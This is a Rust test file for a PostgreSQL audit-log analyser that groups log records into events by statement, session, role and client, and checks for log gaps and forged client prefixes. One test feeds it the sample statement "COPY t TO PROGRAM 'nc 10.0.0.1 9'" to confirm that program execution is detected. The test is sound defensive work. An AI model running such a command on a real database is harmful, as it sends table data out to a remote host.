use kumki_model::{
    Ambiguity, Audit, AuditKind, AuthFailure, Body, EventKind, LogLevel, Phase, Record, Sql,
    Timestamp,
};
use kumki_sql::Shapes;

use super::{Attributor, Options, Texts};
use crate::read::{Judged, Prepared};

/// What a test looks at of an event.
#[derive(Debug, PartialEq, Clone)]
struct Seen {
    kind: EventKind,
    user: Option<String>,
    role: Option<String>,
    client: Option<String>,
    session: Option<String>,
    sql: Option<String>,
    objects: Vec<String>,
    duration_us: Option<u64>,
    rows: Option<u64>,
    records: u32,
    signs: Vec<&'static str>,
    missing: Option<u64>,
    ambiguous: Ambiguity,
}

fn run(records: Vec<Record<'static>>) -> Vec<Seen> {
    run_with(
        records,
        &Options {
            texts: Texts::Statement,
            ..Options::default()
        },
    )
}

fn run_with(records: Vec<Record<'static>>, options: &Options) -> Vec<Seen> {
    let shapes = Shapes::default();
    let mut shaper = shapes.shaper();
    let mut attributor = Attributor::new(options.clone(), shapes);
    let total = records.len() as u64;
    let mut seen = Vec::new();
    let mut sink = |event: &kumki_model::Event<'_>| {
        let statement = event.statement;
        seen.push(Seen {
            kind: event.kind,
            user: event.session.user.clone(),
            role: event.session.role.clone(),
            client: event.session.client.clone(),
            session: event.session.id.clone(),
            sql: statement.and_then(|s| s.text).map(str::to_owned),
            objects: statement.map(|s| s.objects.to_vec()).unwrap_or_default(),
            duration_us: statement.and_then(|s| s.duration_us),
            rows: statement.and_then(|s| s.rows),
            records: event.records,
            signs: statement
                .and_then(|s| s.shape)
                .map(|shape| shape.signs.iter().map(|sign| sign.as_str()).collect())
                .unwrap_or_default(),
            missing: event.missing_records,
            ambiguous: event.ambiguous,
        });
    };
    for record in records {
        let judged = Judged::new(&record, &mut shaper);
        attributor.push(&Prepared::new(&record, &judged), 0, &mut sink);
    }
    attributor.finish(&mut sink);
    let counts = attributor.counts();
    assert_eq!(counts.records, total);
    assert_eq!(
        counts.in_events + counts.late,
        total,
        "every record is accounted for"
    );
    seen
}

fn at(second: i64, body: Body<'static>) -> Record<'static> {
    let mut record = Record::new(Timestamp::from_micros(second * 1_000_000), "");
    record.session_id = Some("68f0.1a");
    record.pid = Some(26);
    record.user = Some("app");
    record.body = body;
    record
}

fn audit(id: u64, sub: u64, object: Option<&'static str>, sql: &'static str) -> Body<'static> {
    Body::Audit(Audit {
        kind: AuditKind::Session,
        statement_id: id,
        substatement_id: sub,
        class: "READ",
        command: "SELECT",
        object_type: object.map(|_| "TABLE"),
        object_name: object,
        text: Some(Sql::new(sql)),
        previously_logged: false,
        parameters: None,
        rows: None,
    })
}

fn logged(sql: &'static str, phase: Phase, duration_us: Option<u64>) -> Body<'static> {
    Body::Statement {
        text: Sql::new(sql),
        phase,
        name: None,
        duration_us,
    }
}

const JOIN: &str = "SELECT * FROM a, b";

#[test]
fn rows_of_one_statement_are_one_event() {
    let mut object = at(1, audit(1, 1, Some("public.b"), JOIN));
    if let Body::Audit(audit) = &mut object.body {
        audit.kind = AuditKind::Object;
    }
    let seen = run(vec![
        at(1, audit(1, 1, Some("public.a"), JOIN)),
        at(1, audit(1, 1, Some("public.b"), JOIN)),
        object,
        at(2, logged(JOIN, Phase::Simple, Some(1_500))),
        at(3, audit(2, 1, Some("public.a"), JOIN)),
    ]);
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[0].objects, ["public.a", "public.b"]);
    assert_eq!(seen[0].records, 4);
    assert_eq!(seen[0].duration_us, Some(1_500));
    assert_eq!(seen[1].records, 1);
}

#[test]
fn steps_of_the_extended_protocol_are_one_event_each_execution() {
    let sql = "SELECT * FROM t WHERE id = $1";
    let seen = run(vec![
        at(1, logged(sql, Phase::Parse, Some(100))),
        at(1, logged(sql, Phase::Bind, Some(50))),
        at(1, audit(1, 1, None, sql)),
        at(1, logged(sql, Phase::Execute, Some(200))),
        at(2, logged(sql, Phase::Bind, Some(40))),
        at(2, audit(2, 1, None, sql)),
        at(2, logged(sql, Phase::Execute, Some(300))),
    ]);
    assert_eq!(
        seen.iter().map(|event| event.records).collect::<Vec<_>>(),
        [4, 3]
    );
    assert_eq!(seen[0].duration_us, Some(350));
}

#[test]
fn the_same_text_twice_is_two_statements() {
    let seen = run(vec![
        at(1, logged("SELECT 1", Phase::Simple, None)),
        at(1, Body::Duration { duration_us: 10 }),
        at(2, logged("SELECT 1", Phase::Simple, None)),
        at(2, Body::Duration { duration_us: 20 }),
    ]);
    assert_eq!(
        seen.iter()
            .map(|event| event.duration_us)
            .collect::<Vec<_>>(),
        [Some(10), Some(20)]
    );
}

#[test]
fn what_runs_inside_a_statement_counts_towards_it() {
    let seen = run(vec![
        at(1, audit(1, 1, None, "SELECT innocent()")),
        at(1, audit(1, 2, None, "COPY t TO PROGRAM 'nc 10.0.0.1 9'")),
    ]);
    assert_eq!(seen.len(), 1);
    assert!(
        seen[0].signs.contains(&"program_execution"),
        "{:?}",
        seen[0].signs
    );
}

#[test]
fn a_slow_statement_leaves_on_time_and_its_duration_is_no_second_one() {
    let seen = run(vec![
        at(1, audit(1, 1, None, JOIN)),
        {
            let mut other = at(60, audit(1, 1, None, "SELECT 1"));
            other.session_id = Some("68f1.1b");
            other
        },
        at(61, logged(JOIN, Phase::Simple, Some(60_000_000))),
        at(62, audit(2, 1, None, JOIN)),
    ]);
    assert_eq!(seen.len(), 3);
    assert_eq!(seen[0].session.as_deref(), Some("68f0.1a"));
}

#[test]
fn address_and_user_come_from_the_connection_records() {
    let received = Body::ConnectionReceived {
        host: "10.0.0.9",
        port: Some(5000),
    };
    let failed = Body::AuthenticationFailed {
        cause: AuthFailure::Password,
        user: Some("bob"),
        database: None,
        host: None,
    };
    let mut first = at(1, received);
    first.user = None;
    let mut second = at(1, failed);
    second.user = None;
    second.level = LogLevel::Fatal;
    let seen = run(vec![first, second]);
    assert_eq!(seen[1].kind, EventKind::AuthenticationFailed);
    assert_eq!(seen[1].user.as_deref(), Some("bob"));
    assert_eq!(seen[1].client.as_deref(), Some("10.0.0.9"));
}

#[test]
fn a_forged_prefix_does_not_move_the_session() {
    let mut forged = at(2, audit(1, 1, None, JOIN));
    forged.client = Some("10.6.6.6");
    forged.ambiguous = Ambiguity::CLIENT;
    let received = at(
        1,
        Body::ConnectionReceived {
            host: "10.0.0.9",
            port: None,
        },
    );
    let seen = run(vec![received, forged.clone()]);
    assert_eq!(seen[1].client.as_deref(), Some("10.0.0.9"));
    assert_eq!(seen[1].ambiguous, Ambiguity::NONE);
    let alone = run(vec![forged]);
    assert_eq!(alone[0].ambiguous, Ambiguity::CLIENT);
}

#[test]
fn a_reused_pid_is_another_session() {
    let with_pid = |second, user, body| {
        let mut record = at(second, body);
        record.session_id = None;
        record.user = Some(user);
        record
    };
    let received = || Body::ConnectionReceived {
        host: "10.0.0.1",
        port: None,
    };
    let gone = Body::Disconnection {
        duration_us: 1,
        user: Some("app"),
        database: None,
        host: None,
        port: None,
    };
    let seen = run(vec![
        with_pid(1, "app", received()),
        with_pid(2, "app", audit(1, 1, None, JOIN)),
        with_pid(3, "app", gone),
        with_pid(4, "bob", received()),
        with_pid(5, "bob", audit(1, 1, None, JOIN)),
    ]);
    let statements: Vec<_> = seen
        .iter()
        .filter(|event| event.kind == EventKind::Statement)
        .collect();
    assert_eq!(statements.len(), 2);
    assert_ne!(statements[0].session, statements[1].session);
    assert_eq!(statements[1].user.as_deref(), Some("bob"));
}

#[test]
fn the_role_in_force_is_followed() {
    let seen = run(vec![
        at(1, logged("SET ROLE admin", Phase::Simple, None)),
        at(2, logged("SELECT 1", Phase::Simple, None)),
        at(3, logged("RESET ROLE", Phase::Simple, None)),
        at(4, logged("SELECT 2", Phase::Simple, None)),
    ]);
    let roles: Vec<_> = seen.iter().map(|event| event.role.as_deref()).collect();
    assert_eq!(roles, [None, Some("admin"), Some("admin"), None]);
    assert!(
        seen.iter()
            .all(|event| event.user.as_deref() == Some("app"))
    );
}

#[test]
fn a_failed_role_switch_has_no_effect() {
    let mut error = at(1, Body::Message);
    error.level = LogLevel::Error;
    error.statement = Some(Sql::new("SET ROLE admin"));
    let seen = run(vec![
        at(1, logged("SET ROLE admin", Phase::Simple, None)),
        error,
        at(2, logged("SELECT 1", Phase::Simple, None)),
    ]);
    assert_eq!(seen[2].role, None);
}

#[test]
fn a_jump_of_the_line_number_is_a_gap() {
    let numbered = |second, line| {
        let mut record = at(second, logged(JOIN, Phase::Simple, None));
        record.line_num = Some(line);
        record
    };
    let seen = run(vec![numbered(1, 7), numbered(2, 8), numbered(3, 12)]);
    let gaps: Vec<_> = seen.iter().filter_map(|event| event.missing).collect();
    assert_eq!(gaps, [3]);
}

#[test]
fn many_sessions_stay_bounded_and_lose_nothing() {
    let options = Options {
        sessions: 100,
        ..Options::default()
    };
    let records: Vec<Record<'static>> = (0..5_000)
        .map(|number| {
            let mut record = at(1, audit(1, 1, None, JOIN));
            record.session_id = None;
            record.pid = Some(number);
            record
        })
        .collect();
    assert_eq!(run_with(records, &options).len(), 5_000);
}
